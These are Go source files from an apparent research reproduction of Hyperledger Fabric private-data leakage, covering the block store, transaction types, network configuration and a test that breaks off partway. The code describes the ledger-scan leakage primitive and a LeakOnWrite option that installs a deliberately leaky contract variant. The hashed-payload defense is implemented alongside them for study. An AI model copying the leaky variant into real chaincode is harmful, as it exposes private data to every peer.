	baseHash []byte // hash of block base-1; nil when base == 0
	blocks   []*Block
	byTxID   map[string]txLocator
}

type txLocator struct {
	blockNum uint64
	txIndex  int
}

// NewBlockStore creates an empty blockchain.
func NewBlockStore() *BlockStore {
	return &BlockStore{byTxID: make(map[string]txLocator)}
}

// InstallBase marks an empty store as starting at the given height, with
// prevHash the hash of block height-1. Subsequent appends must start at
// `height` and link against prevHash. This is the snapshot-install
// primitive: the installing peer never held blocks [0, height).
func (s *BlockStore) InstallBase(height uint64, prevHash []byte) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.base != 0 || len(s.blocks) != 0 {
		return fmt.Errorf("ledger: install base %d on non-empty store", height)
	}
	if height > 0 && len(prevHash) == 0 {
		return fmt.Errorf("ledger: install base %d without predecessor hash", height)
	}
	s.base = height
	if height > 0 {
		s.baseHash = append([]byte(nil), prevHash...)
	}
	return nil
}

// Base returns the first block number the store holds (non-zero only for
// snapshot-bootstrapped peers).
func (s *BlockStore) Base() uint64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.base
}

// Append adds a validated block to the chain after verifying linkage.
func (s *BlockStore) Append(b *Block) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	want := s.base + uint64(len(s.blocks))
	if b.Header.Number != want {
		return fmt.Errorf("ledger: append block %d, want %d", b.Header.Number, want)
	}
	var prev []byte
	if len(s.blocks) > 0 {
		prev = s.blocks[len(s.blocks)-1].Hash()
	} else {
		prev = s.baseHash
	}
	if prev != nil {
		if !fabcrypto.Equal(b.Header.PrevHash, prev) {
			return fmt.Errorf("ledger: block %d prev-hash mismatch", b.Header.Number)
		}
	}
	if !b.VerifyDataHash() {
		return fmt.Errorf("ledger: block %d data-hash mismatch", b.Header.Number)
	}
	s.blocks = append(s.blocks, b)
	for i, tx := range b.Transactions {
		s.byTxID[tx.TxID] = txLocator{blockNum: b.Header.Number, txIndex: i}
	}
	return nil
}

// Height returns the chain height (number of the next block to append).
func (s *BlockStore) Height() uint64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.base + uint64(len(s.blocks))
}

// LastHash returns the hash of the last block, or nil for an empty chain.
// For a freshly installed base with no appends yet, this is the
// snapshot's recorded hash of block base-1, so the first caught-up block
// links correctly.
func (s *BlockStore) LastHash() []byte {
	s.mu.RLock()
	defer s.mu.RUnlock()
	if len(s.blocks) == 0 {
		return s.baseHash
	}
	return s.blocks[len(s.blocks)-1].Hash()
}

// Block returns the block at the given number. Blocks below the base of
// a snapshot-bootstrapped store were never transferred and report
// ErrNotFound.
func (s *BlockStore) Block(number uint64) (*Block, error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	if number < s.base || number >= s.base+uint64(len(s.blocks)) {
		return nil, fmt.Errorf("%w: block %d", ErrNotFound, number)
	}
	return s.blocks[number-s.base], nil
}

// Transaction looks up a transaction and its validation flag by ID.
// Pre-base transactions of a snapshot-bootstrapped peer are not locally
// resolvable (their effects are in the state, not the block files).
func (s *BlockStore) Transaction(txID string) (*Transaction, ValidationCode, error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	loc, ok := s.byTxID[txID]
	if !ok {
		return nil, 0, fmt.Errorf("%w: tx %s", ErrNotFound, txID)
	}
	b := s.blocks[loc.blockNum-s.base]
	return b.Transactions[loc.txIndex], b.Metadata.ValidationFlags[loc.txIndex], nil
}

// Scan calls fn for every transaction in chain order, with its block
// number and validation flag. fn returning false stops the scan. This is
// the primitive the paper's PDC-leakage attack uses: any peer can walk its
// local blockchain and parse transaction payloads (§IV-B).
func (s *BlockStore) Scan(fn func(blockNum uint64, tx *Transaction, code ValidationCode) bool) {
	s.mu.RLock()
	blocks := s.blocks
	s.mu.RUnlock()
	for _, b := range blocks {
		for i, tx := range b.Transactions {
			if !fn(b.Header.Number, tx, b.Metadata.ValidationFlags[i]) {
				return
			}
		}
	}
}

// VerifyChain re-checks hash linkage and data hashes across the whole
// chain, returning the first broken block number or -1 when intact.
func (s *BlockStore) VerifyChain() int64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	prev := s.baseHash
	for i, b := range s.blocks {
		n := s.base + uint64(i)
		if b.Header.Number != n {
			return int64(n)
		}
		if prev != nil && !fabcrypto.Equal(b.Header.PrevHash, prev) {
			return int64(n)
		}
		if !b.VerifyDataHash() {
			return int64(n)
		}
		prev = b.Hash()
	}
	return -1
}
