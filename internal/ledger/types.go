// Package ledger defines the wire formats of the Fabric reproduction —
// proposals, proposal responses, endorsements, transactions and blocks,
// mirroring the block structure of the paper's Fig. 3 — together with the
// per-peer block store.
//
// A transaction carries four parts: the transaction header, the proposal,
// the proposal-response (whose Response holds the plaintext "payload"
// field central to the paper's PDC leakage analysis, and whose Results
// hold the read/write sets) and the list of endorsements.
package ledger

import (
	"crypto/rand"
	"encoding/json"
	"fmt"
	"sync"

	"repro/internal/fabcrypto"
	"repro/internal/rwset"
)

// Proposal is a client's request that endorsers simulate a chaincode
// function (paper §II-B1: client identity, target chaincode ID, function
// name and parameters).
type Proposal struct {
	TxID      string   `json:"tx_id"`
	ChannelID string   `json:"channel_id"`
	Chaincode string   `json:"chaincode"`
	Function  string   `json:"function"`
	Args      []string `json:"args,omitempty"`
	// Creator is the serialized certificate of the submitting client.
	Creator []byte `json:"creator"`
	// Nonce makes the TxID unique.
	Nonce []byte `json:"nonce"`
	// Transient carries confidential inputs (e.g. private values to
	// write) that must reach the chaincode without ever entering the
	// transaction; mirrors Fabric's transient map.
	Transient map[string][]byte `json:"-"`
}

// NewTxID derives the transaction ID from a nonce and the creator's
// certificate, as Fabric does: SHA-256(nonce || creator).
func NewTxID(nonce, creator []byte) string {
	return fmt.Sprintf("%x", fabcrypto.HashConcat(nonce, creator))
}

// NewNonce returns a fresh random nonce.
func NewNonce() ([]byte, error) {
	n := make([]byte, 24)
	if _, err := rand.Read(n); err != nil {
		return nil, fmt.Errorf("ledger: nonce: %w", err)
	}
	return n, nil
}

// Bytes returns the canonical serialization of the proposal (excluding the
// transient map, which never leaves the endorsement path).
func (p *Proposal) Bytes() []byte {
	b, err := json.Marshal(p)
	if err != nil {
		panic(fmt.Sprintf("ledger: marshal proposal: %v", err))
	}
	return b
}

// Response is the chaincode function's reply to the client: the paper's
// Use Case 3. Payload carries whatever the function returns — for PDC
// reads typically the private value itself, in plaintext.
type Response struct {
	Status  int32  `json:"status"`
	Message string `json:"message,omitempty"`
	Payload []byte `json:"payload,omitempty"`
}

// Response status values.
const (
	StatusOK    int32 = 200
	StatusError int32 = 500
)

// ChaincodeEvent is an application event emitted by a chaincode function
// (at most one per transaction, as in Fabric). Events travel inside the
// transaction and are therefore plaintext in every peer's blockchain —
// the same exposure class as the Response payload of Use Case 3.
type ChaincodeEvent struct {
	Name    string `json:"name"`
	Payload []byte `json:"payload,omitempty"`
}

// ProposalResponsePayload is the part of a proposal response that
// endorsers sign and that ends up inside the transaction: the chaincode
// Response plus the (hashed, for PDC) read/write sets.
type ProposalResponsePayload struct {
	TxID      string   `json:"tx_id"`
	Chaincode string   `json:"chaincode"`
	Response  Response `json:"response"`
	// Results is the marshaled rwset.TxRWSet.
	Results []byte `json:"results"`
	// Event is the chaincode event, if one was set during simulation.
	Event *ChaincodeEvent `json:"event,omitempty"`
}

// Bytes returns the canonical serialization signed by endorsers.
func (p *ProposalResponsePayload) Bytes() []byte {
	b, err := json.Marshal(p)
	if err != nil {
		panic(fmt.Sprintf("ledger: marshal prp: %v", err))
	}
	return b
}

// ParseProposalResponsePayload decodes a payload serialized with Bytes.
func ParseProposalResponsePayload(b []byte) (*ProposalResponsePayload, error) {
	var p ProposalResponsePayload
	if err := json.Unmarshal(b, &p); err != nil {
		return nil, fmt.Errorf("ledger: parse prp: %w", err)
	}
	return &p, nil
}

// RWSet unmarshals the Results field.
func (p *ProposalResponsePayload) RWSet() (*rwset.TxRWSet, error) {
	return rwset.UnmarshalTxRWSet(p.Results)
}

// HashedPayloadForm returns a copy of the payload whose Response.Payload
// is replaced by its SHA-256 digest. This is the PR_Hash of the paper's
// defense Feature 2 (Fig. 4): the endorser signs this form, and the
// client assembles the transaction from it, so the plaintext private
// value never enters a block.
func (p *ProposalResponsePayload) HashedPayloadForm() *ProposalResponsePayload {
	cp := *p
	if len(p.Response.Payload) > 0 {
		cp.Response.Payload = fabcrypto.Hash(p.Response.Payload)
	}
	return &cp
}

// Endorsement is a peer's signature over a ProposalResponsePayload,
// together with the endorser's certificate.
type Endorsement struct {
	// Endorser is the serialized certificate of the endorsing peer.
	Endorser []byte `json:"endorser"`
	// Signature covers the ProposalResponsePayload bytes carried by the
	// transaction.
	Signature []byte `json:"signature"`
}

// ProposalResponse is what an endorser returns to the client.
type ProposalResponse struct {
	// Payload is the serialized ProposalResponsePayload the endorsement
	// signature covers. Under defense Feature 2 this is the hashed
	// (PR_Hash) form.
	Payload []byte `json:"payload"`
	// PlainPayload, set only under defense Feature 2, is the serialized
	// original (PR_Ori) form, returned so the client still receives the
	// plaintext value it asked for. It is NOT covered by the signature
	// and never enters the transaction.
	PlainPayload []byte `json:"plain_payload,omitempty"`
	// Response echoes the chaincode response for client convenience.
	Response Response `json:"response"`
	// Endorsement is the endorser's signature over Payload.
	Endorsement Endorsement `json:"endorsement"`
}

// Transaction is the unit of the blockchain: header fields, the original
// proposal, one agreed-upon proposal response payload and the collected
// endorsements (Fig. 3).
type Transaction struct {
	TxID      string `json:"tx_id"`
	ChannelID string `json:"channel_id"`
	// Creator is the submitting client's serialized certificate.
	Creator []byte `json:"creator"`
	// Proposal echoes the endorsed proposal.
	Proposal *Proposal `json:"proposal"`
	// ResponsePayload is the serialized ProposalResponsePayload all
	// endorsers agreed on (and signed).
	ResponsePayload []byte `json:"response_payload"`
	// Endorsements are the collected endorser signatures.
	Endorsements []Endorsement `json:"endorsements"`

	// encOnce/enc memoize Bytes. A transaction is serialized repeatedly
	// on the hot path — once for its raft entry, then once per block
	// data-hash computation and re-hash during validation — but its
	// canonical form is fixed from the first serialization on, so the
	// marshal runs once. JSON ignores unexported fields, so clones and
	// re-parses start with a cold cache.
	encOnce sync.Once
	enc     []byte
}

// Bytes returns the canonical serialization of the transaction,
// memoized on first use: the transaction must not be mutated afterwards,
// and callers must not modify the returned slice. Integrity checks use
// marshal instead, which never trusts the cache.
func (t *Transaction) Bytes() []byte {
	t.encOnce.Do(func() {
		t.enc = t.marshal()
	})
	return t.enc
}

// marshal serializes the transaction's current content, bypassing the
// memoized cache.
func (t *Transaction) marshal() []byte {
	b, err := json.Marshal(t)
	if err != nil {
		panic(fmt.Sprintf("ledger: marshal tx: %v", err))
	}
	return b
}

// ParseTransaction decodes a transaction serialized with Bytes. The wire
// form seeds the serialization cache: re-marshaling a transaction we
// ourselves serialized yields the same bytes, so the copy stands in for
// the canonical form without a marshal.
func ParseTransaction(b []byte) (*Transaction, error) {
	var t Transaction
	if err := json.Unmarshal(b, &t); err != nil {
		return nil, fmt.Errorf("ledger: parse tx: %w", err)
	}
	t.encOnce.Do(func() { t.enc = append([]byte(nil), b...) })
	return &t, nil
}

// ResponsePayloadParsed unmarshals the agreed proposal response payload.
func (t *Transaction) ResponsePayloadParsed() (*ProposalResponsePayload, error) {
	return ParseProposalResponsePayload(t.ResponsePayload)
}

// ValidationCode records why a transaction was marked valid or invalid
// during the validation phase.
type ValidationCode int

// Validation outcomes, mirroring Fabric's transaction validation codes.
const (
	// Valid transactions update the world state.
	Valid ValidationCode = iota + 1
	// EndorsementPolicyFailure: not enough valid endorsements.
	EndorsementPolicyFailure
	// MVCCConflict: a read version no longer matches the world state.
	MVCCConflict
	// BadPayload: the transaction is structurally broken.
	BadPayload
	// BadSignature: an endorsement signature failed verification.
	BadSignature
	// DuplicateTxID: the transaction ID already appears in the
	// blockchain — a replayed transaction.
	DuplicateTxID
)

// String renders the validation code.
func (c ValidationCode) String() string {
	switch c {
	case Valid:
		return "VALID"
	case EndorsementPolicyFailure:
		return "ENDORSEMENT_POLICY_FAILURE"
	case MVCCConflict:
		return "MVCC_READ_CONFLICT"
	case BadPayload:
		return "BAD_PAYLOAD"
	case BadSignature:
		return "BAD_SIGNATURE"
	case DuplicateTxID:
		return "DUPLICATE_TXID"
	default:
		return fmt.Sprintf("ValidationCode(%d)", int(c))
	}
}

// BlockHeader chains blocks together.
type BlockHeader struct {
	Number   uint64 `json:"number"`
	PrevHash []byte `json:"prev_hash"`
	DataHash []byte `json:"data_hash"`
}

// BlockMetadata carries the validity flag vector written by validators
// (one code per transaction, same order).
type BlockMetadata struct {
	ValidationFlags []ValidationCode `json:"validation_flags,omitempty"`
}

// Block is a list of transactions plus header and metadata (Fig. 3).
type Block struct {
	Header       BlockHeader    `json:"header"`
	Transactions []*Transaction `json:"transactions"`
	Metadata     BlockMetadata  `json:"metadata"`
}

// dataHash computes the digest over the ordered transactions, reusing
// each transaction's memoized serialization — the block-cut fast path.
func dataHash(txs []*Transaction) []byte {
	parts := make([][]byte, len(txs))
	for i, tx := range txs {
		parts[i] = tx.Bytes()
	}
	return fabcrypto.HashConcat(parts...)
}

// dataHashFresh recomputes the digest from fresh serializations of the
// transactions' current content, so a mutation made after a transaction
// was first serialized (tampering, corruption) changes the digest even
// though the memoized cache still holds the old form.
func dataHashFresh(txs []*Transaction) []byte {
	parts := make([][]byte, len(txs))
	for i, tx := range txs {
		parts[i] = tx.marshal()
	}
	return fabcrypto.HashConcat(parts...)
}

// NewBlock assembles a block at the given number linking to prevHash.
func NewBlock(number uint64, prevHash []byte, txs []*Transaction) *Block {
	return &Block{
		Header: BlockHeader{
			Number:   number,
			PrevHash: append([]byte(nil), prevHash...),
			DataHash: dataHash(txs),
		},
		Transactions: txs,
		Metadata: BlockMetadata{
			ValidationFlags: make([]ValidationCode, len(txs)),
		},
	}
}

// Hash returns the block header hash, which the next block links to.
func (b *Block) Hash() []byte {
	hdr, err := json.Marshal(b.Header)
	if err != nil {
		panic(fmt.Sprintf("ledger: marshal header: %v", err))
	}
	return fabcrypto.Hash(hdr)
}

// VerifyDataHash checks that the block's transactions match its
// DataHash. It re-serializes every transaction from scratch: trusting
// the memoized cache here would let post-commit tampering go unnoticed.
func (b *Block) VerifyDataHash() bool {
	return fabcrypto.Equal(b.Header.DataHash, dataHashFresh(b.Transactions))
}

// Clone deep-copies the block so each peer can record its own validation
// flags without racing other peers.
func (b *Block) Clone() *Block {
	raw, err := json.Marshal(b)
	if err != nil {
		panic(fmt.Sprintf("ledger: clone block: %v", err))
	}
	var cp Block
	if err := json.Unmarshal(raw, &cp); err != nil {
		panic(fmt.Sprintf("ledger: clone block: %v", err))
	}
	return &cp
}
