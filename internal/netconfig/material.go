// Material generation for multi-process (wire) deployments: the
// identity root a single-process network builds in memory — org CAs,
// per-node certificates and keys — serialized so separate OS processes
// reconstruct a consistent consortium. This is the reproduction's
// cryptogen: `pdcnet keygen` writes the file, every role process loads
// it.
package netconfig

import (
	"encoding/json"
	"fmt"
	"os"

	"repro/internal/channel"
	"repro/internal/fabcrypto"
	"repro/internal/identity"
)

// MaterialOrg carries one organization's public CA material.
type MaterialOrg struct {
	Name  string              `json:"name"`
	CAPub fabcrypto.PublicKey `json:"ca_pub"`
}

// OrdererNode is the conventional node name of the ordering service's
// identity in a material file.
const OrdererNode = "orderer0"

// Material is the serialized identity root of one deployment. The file
// contains private keys: in a real deployment each node would receive
// only its own identity, but the loopback clusters this drives keep one
// file for simplicity.
type Material struct {
	Channel            string                       `json:"channel"`
	DefaultEndorsement string                       `json:"defaultEndorsement,omitempty"`
	Orgs               []MaterialOrg                `json:"orgs"`
	Identities         map[string]*identity.Encoded `json:"identities"`
}

// GenerateMaterial creates fresh CAs and issues every identity the
// config's topology needs: peer<i>.<org> for each org's peers,
// client0.<org> for each org's gateway, and orderer0 (issued by the
// first org's CA, standing in for the orderer org).
func (c *Config) GenerateMaterial() (*Material, error) {
	if err := c.Validate(); err != nil {
		return nil, err
	}
	channelName := c.Channel
	if channelName == "" {
		channelName = "c1"
	}
	m := &Material{
		Channel:            channelName,
		DefaultEndorsement: c.DefaultEndorsement,
		Identities:         make(map[string]*identity.Encoded),
	}
	peersPerOrg := c.PeersPerOrg
	if peersPerOrg <= 0 {
		peersPerOrg = 1
	}
	issue := func(ca *identity.CA, subject string, role identity.Role) error {
		id, err := ca.Issue(subject, role)
		if err != nil {
			return fmt.Errorf("netconfig: issue %s: %w", subject, err)
		}
		enc, err := id.Export()
		if err != nil {
			return fmt.Errorf("netconfig: export %s: %w", subject, err)
		}
		m.Identities[subject] = enc
		return nil
	}
	for i, org := range c.Orgs {
		ca, err := identity.NewCA(org)
		if err != nil {
			return nil, fmt.Errorf("netconfig: %w", err)
		}
		m.Orgs = append(m.Orgs, MaterialOrg{Name: org, CAPub: ca.PublicKey()})
		for p := 0; p < peersPerOrg; p++ {
			if err := issue(ca, fmt.Sprintf("peer%d.%s", p, org), identity.RolePeer); err != nil {
				return nil, err
			}
		}
		if err := issue(ca, "client0."+org, identity.RoleClient); err != nil {
			return nil, err
		}
		if i == 0 {
			if err := issue(ca, OrdererNode, identity.RoleOrderer); err != nil {
				return nil, err
			}
		}
	}
	return m, nil
}

// Save writes the material file (0600 — it holds private keys).
func (m *Material) Save(path string) error {
	data, err := json.MarshalIndent(m, "", "  ")
	if err != nil {
		return fmt.Errorf("netconfig: marshal material: %w", err)
	}
	if err := os.WriteFile(path, data, 0o600); err != nil {
		return fmt.Errorf("netconfig: write material: %w", err)
	}
	return nil
}

// LoadMaterial reads a material file.
func LoadMaterial(path string) (*Material, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("netconfig: read material: %w", err)
	}
	var m Material
	if err := json.Unmarshal(data, &m); err != nil {
		return nil, fmt.Errorf("netconfig: parse material: %w", err)
	}
	if m.Channel == "" || len(m.Orgs) == 0 {
		return nil, fmt.Errorf("netconfig: material missing channel or orgs")
	}
	return &m, nil
}

// ChannelConfig reconstructs the channel configuration every process
// shares: same org set, same CA keys, same default endorsement policy.
func (m *Material) ChannelConfig() *channel.Config {
	orgCfgs := make([]channel.OrgConfig, 0, len(m.Orgs))
	for _, org := range m.Orgs {
		orgCfgs = append(orgCfgs, channel.OrgConfig{Name: org.Name, CAPub: org.CAPub})
	}
	cfg := channel.NewConfig(m.Channel, orgCfgs...)
	if m.DefaultEndorsement != "" {
		cfg.DefaultEndorsement = m.DefaultEndorsement
	}
	return cfg
}

// Identity reconstructs one node's identity.
func (m *Material) Identity(name string) (*identity.Identity, error) {
	enc, ok := m.Identities[name]
	if !ok {
		return nil, fmt.Errorf("netconfig: no identity for %q in material", name)
	}
	return enc.Identity()
}

// ServerKey returns the public key a wire client pins when dialing the
// named node's TLS listener.
func (m *Material) ServerKey(name string) (fabcrypto.PublicKey, error) {
	enc, ok := m.Identities[name]
	if !ok {
		return nil, fmt.Errorf("netconfig: no identity for %q in material", name)
	}
	cert, err := identity.ParseCertificate(enc.Cert)
	if err != nil {
		return nil, err
	}
	return cert.PubKey, nil
}
