// Package netconfig builds networks from a declarative JSON topology —
// the reproduction's equivalent of the test-network's configtx.yaml +
// docker-compose pair. A config names the organizations, channel policy,
// orderer parameters, security features and chaincode deployments
// (definitions plus which built-in contract implementation to install).
package netconfig

import (
	"encoding/json"
	"fmt"
	"os"

	"repro/internal/chaincode"
	"repro/internal/consortium"
	"repro/internal/contracts"
	"repro/internal/core"
	"repro/internal/network"
	"repro/internal/pvtdata"
	"repro/internal/storage"
)

// Chaincode describes one chaincode deployment.
type Chaincode struct {
	Name    string `json:"name"`
	Version string `json:"version"`
	// EndorsementPolicy is the chaincode-level policy spec ("" = the
	// channel default).
	EndorsementPolicy string `json:"endorsementPolicy,omitempty"`
	// Collections are the private data collections.
	Collections []pvtdata.CollectionConfig `json:"collections,omitempty"`
	// Contract selects the built-in implementation: "public" (the
	// public asset contract), "pdc" (the private data contract over
	// Collection) or "merged" (both). Defaults to "merged" when
	// collections exist, else "public".
	Contract string `json:"contract,omitempty"`
	// Collection names the PDC the "pdc"/"merged" contract manages;
	// defaults to the first defined collection.
	Collection string `json:"collection,omitempty"`
	// LeakOnWrite installs the sloppy Listing 2 write variant.
	LeakOnWrite bool `json:"leakOnWrite,omitempty"`
}

// Security mirrors core.SecurityConfig with JSON names.
type Security struct {
	CollectionPolicyForReads    bool   `json:"collectionPolicyForReads,omitempty"`
	HashedPayloadEndorsement    bool   `json:"hashedPayloadEndorsement,omitempty"`
	FilterNonMemberEndorsements bool   `json:"filterNonMemberEndorsements,omitempty"`
	StorageBackend              string `json:"storageBackend,omitempty"`
	StorageDir                  string `json:"storageDir,omitempty"`
	StorageSegmentBytes         int64  `json:"storageSegmentBytes,omitempty"`
	StorageNoFsync              bool   `json:"storageNoFsync,omitempty"`
}

// Config is the topology document.
type Config struct {
	Channel            string   `json:"channel,omitempty"`
	Orgs               []string `json:"orgs"`
	PeersPerOrg        int      `json:"peersPerOrg,omitempty"`
	DefaultEndorsement string   `json:"defaultEndorsement,omitempty"`
	OrdererCount       int      `json:"ordererCount,omitempty"`
	BatchSize          int      `json:"batchSize,omitempty"`
	// RetainBlocks, when non-zero, bounds the orderer's delivery log:
	// older blocks are compacted away (orderer.ErrCompacted on replay
	// past the window) and cold-joining peers bootstrap from a peer
	// snapshot instead of genesis replay.
	RetainBlocks int         `json:"retainBlocks,omitempty"`
	Seed         int64       `json:"seed,omitempty"`
	Security     Security    `json:"security,omitempty"`
	Chaincodes   []Chaincode `json:"chaincodes,omitempty"`
	// Channels, when set, builds a multi-channel consortium instead of
	// a single network: channel name -> member orgs (BuildConsortium).
	// Chaincodes then deploy onto every channel whose members include
	// all orgs their collections reference.
	Channels map[string][]string `json:"channels,omitempty"`
	// Wire, when set, describes a multi-process deployment: per-role
	// TCP listen addresses for `pdcnet up` and the role subcommands.
	Wire *Wire `json:"wire,omitempty"`
}

// Wire is the multi-process deployment section: where each role
// listens. Unlisted peers get loopback addresses assigned at launch.
type Wire struct {
	// TLS turns on pinned-key TLS between every process.
	TLS bool `json:"tls,omitempty"`
	// Orderer is the ordering service's listen address.
	Orderer string `json:"orderer,omitempty"`
	// Gateway is the gateway process's listen address.
	Gateway string `json:"gateway,omitempty"`
	// Peers maps node names ("peer0.org1") to listen addresses.
	Peers map[string]string `json:"peers,omitempty"`
}

// Load reads and validates a topology document from disk.
func Load(path string) (*Config, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("netconfig: read: %w", err)
	}
	return Parse(data)
}

// Parse decodes and validates a topology document.
func Parse(data []byte) (*Config, error) {
	var cfg Config
	if err := json.Unmarshal(data, &cfg); err != nil {
		return nil, fmt.Errorf("netconfig: parse: %w", err)
	}
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	return &cfg, nil
}

// Validate checks structural consistency.
func (c *Config) Validate() error {
	if len(c.Orgs) == 0 {
		return fmt.Errorf("netconfig: no organizations")
	}
	seen := make(map[string]bool)
	for _, org := range c.Orgs {
		if org == "" {
			return fmt.Errorf("netconfig: empty organization name")
		}
		if seen[org] {
			return fmt.Errorf("netconfig: duplicate organization %q", org)
		}
		seen[org] = true
	}
	if name := c.Security.StorageBackend; name != "" {
		known := false
		for _, b := range storage.Backends() {
			if b == name {
				known = true
				break
			}
		}
		if !known {
			return fmt.Errorf("netconfig: unknown storage backend %q (have %v)", name, storage.Backends())
		}
		if name == "durable" && c.Security.StorageDir == "" {
			return fmt.Errorf("netconfig: storage backend %q needs storageDir", name)
		}
	}
	for i := range c.Chaincodes {
		cc := &c.Chaincodes[i]
		if cc.Name == "" {
			return fmt.Errorf("netconfig: chaincode with empty name")
		}
		for j := range cc.Collections {
			if err := cc.Collections[j].Validate(); err != nil {
				return fmt.Errorf("netconfig: chaincode %q: %w", cc.Name, err)
			}
		}
		switch cc.Contract {
		case "", "public", "pdc", "merged":
		default:
			return fmt.Errorf("netconfig: chaincode %q: unknown contract %q", cc.Name, cc.Contract)
		}
		if (cc.Contract == "pdc" || cc.Contract == "merged" || cc.Contract == "") &&
			cc.Collection == "" && len(cc.Collections) > 0 {
			cc.Collection = cc.Collections[0].Name
		}
	}
	return nil
}

// SecurityConfig converts to the runtime form.
func (c *Config) SecurityConfig() core.SecurityConfig {
	return core.SecurityConfig{
		CollectionPolicyForReads:    c.Security.CollectionPolicyForReads,
		HashedPayloadEndorsement:    c.Security.HashedPayloadEndorsement,
		FilterNonMemberEndorsements: c.Security.FilterNonMemberEndorsements,
		StorageBackend:              c.Security.StorageBackend,
		StorageDir:                  c.Security.StorageDir,
		StorageSegmentBytes:         c.Security.StorageSegmentBytes,
		StorageNoFsync:              c.Security.StorageNoFsync,
	}
}

// Build constructs the network and deploys the configured chaincodes.
func (c *Config) Build() (*network.Network, error) {
	net, err := network.New(network.Options{
		ChannelName:        c.Channel,
		Orgs:               c.Orgs,
		PeersPerOrg:        c.PeersPerOrg,
		DefaultEndorsement: c.DefaultEndorsement,
		OrdererCount:       c.OrdererCount,
		BatchSize:          c.BatchSize,
		Security:           c.SecurityConfig(),
		Seed:               c.Seed,
	})
	if err != nil {
		return nil, err
	}
	for i := range c.Chaincodes {
		cc := &c.Chaincodes[i]
		def := &chaincode.Definition{
			Name:              cc.Name,
			Version:           cc.Version,
			EndorsementPolicy: cc.EndorsementPolicy,
			Collections:       cc.Collections,
		}
		impl, err := cc.implementation()
		if err != nil {
			return nil, err
		}
		if err := net.DeployChaincode(def, impl); err != nil {
			return nil, err
		}
	}
	return net, nil
}

// BuildConsortium constructs the multi-channel deployment described by
// the Channels map and deploys every chaincode on every channel.
func (c *Config) BuildConsortium() (*consortium.Consortium, error) {
	if len(c.Channels) == 0 {
		return nil, fmt.Errorf("netconfig: no channels defined; use Build for a single network")
	}
	cons, err := consortium.New(consortium.Options{
		Orgs:               c.Orgs,
		Channels:           c.Channels,
		DefaultEndorsement: c.DefaultEndorsement,
		Security:           c.SecurityConfig(),
		Seed:               c.Seed,
	})
	if err != nil {
		return nil, err
	}
	for _, name := range cons.Channels() {
		net := cons.Channel(name)
		for i := range c.Chaincodes {
			cc := &c.Chaincodes[i]
			if !collectionsCovered(cc, net) {
				continue
			}
			def := &chaincode.Definition{
				Name:              cc.Name,
				Version:           cc.Version,
				EndorsementPolicy: cc.EndorsementPolicy,
				Collections:       cc.Collections,
			}
			impl, err := cc.implementation()
			if err != nil {
				return nil, err
			}
			if err := net.DeployChaincode(def, impl); err != nil {
				return nil, fmt.Errorf("netconfig: channel %q: %w", name, err)
			}
		}
	}
	return cons, nil
}

// collectionsCovered reports whether every org referenced by the
// chaincode's collections is a member of the channel.
func collectionsCovered(cc *Chaincode, net *network.Network) bool {
	for i := range cc.Collections {
		for _, org := range cc.Collections[i].MemberOrgs() {
			if !net.Channel.HasOrg(org) {
				return false
			}
		}
	}
	return true
}

// Implementation returns the built-in contract implementation the
// chaincode entry selects — exported for the multi-process node
// bootstrap, which installs chaincodes peer-by-peer instead of through
// Network.DeployChaincode.
func (cc *Chaincode) Implementation() (chaincode.Chaincode, error) {
	return cc.implementation()
}

// Definition returns the chaincode definition peers approve.
func (cc *Chaincode) Definition() *chaincode.Definition {
	return &chaincode.Definition{
		Name:              cc.Name,
		Version:           cc.Version,
		EndorsementPolicy: cc.EndorsementPolicy,
		Collections:       cc.Collections,
	}
}

func (cc *Chaincode) implementation() (chaincode.Chaincode, error) {
	contract := cc.Contract
	if contract == "" {
		if len(cc.Collections) > 0 {
			contract = "merged"
		} else {
			contract = "public"
		}
	}
	switch contract {
	case "public":
		return contracts.NewPublicAsset(), nil
	case "pdc":
		if cc.Collection == "" {
			return nil, fmt.Errorf("netconfig: chaincode %q: pdc contract needs a collection", cc.Name)
		}
		return contracts.NewPDC(contracts.PDCOptions{
			Collection:  cc.Collection,
			LeakOnWrite: cc.LeakOnWrite,
		}), nil
	case "merged":
		if cc.Collection == "" {
			return nil, fmt.Errorf("netconfig: chaincode %q: merged contract needs a collection", cc.Name)
		}
		merged := contracts.NewPublicAsset()
		for name, fn := range contracts.NewPDC(contracts.PDCOptions{
			Collection:  cc.Collection,
			LeakOnWrite: cc.LeakOnWrite,
		}) {
			merged[name] = fn
		}
		return merged, nil
	default:
		return nil, fmt.Errorf("netconfig: chaincode %q: unknown contract %q", cc.Name, contract)
	}
}
