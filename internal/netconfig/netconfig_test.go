package netconfig

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"repro/internal/ledger"
	"repro/internal/peer"
	"repro/internal/service"
)

const sampleConfig = `{
  "channel": "trading",
  "orgs": ["org1", "org2", "org3"],
  "defaultEndorsement": "MAJORITY Endorsement",
  "ordererCount": 3,
  "security": {"hashedPayloadEndorsement": true},
  "chaincodes": [
    {
      "name": "asset",
      "version": "1.0",
      "collections": [
        {
          "name": "pdc1",
          "policy": "OR(org1.member, org2.member)",
          "requiredPeerCount": 0,
          "maxPeerCount": 3,
          "endorsementPolicy": "AND(org1.peer, org2.peer)"
        }
      ]
    },
    {"name": "public-only", "version": "1.0", "contract": "public"}
  ]
}`

func TestParseAndBuild(t *testing.T) {
	cfg, err := Parse([]byte(sampleConfig))
	if err != nil {
		t.Fatal(err)
	}
	if cfg.Channel != "trading" || len(cfg.Orgs) != 3 {
		t.Fatalf("cfg = %+v", cfg)
	}
	if !cfg.SecurityConfig().HashedPayloadEndorsement {
		t.Fatal("security not mapped")
	}
	// The default merged contract picked the first collection.
	if cfg.Chaincodes[0].Collection != "pdc1" {
		t.Fatalf("collection default = %q", cfg.Chaincodes[0].Collection)
	}

	net, err := cfg.Build()
	if err != nil {
		t.Fatal(err)
	}
	res, err := net.Gateway("org1").Submit(context.Background(),
		service.NewInvoke("asset", "setPrivate", "k", "12").
			WithEndorsers(service.Names([]*peer.Peer{net.Peer("org1"), net.Peer("org2")})...))
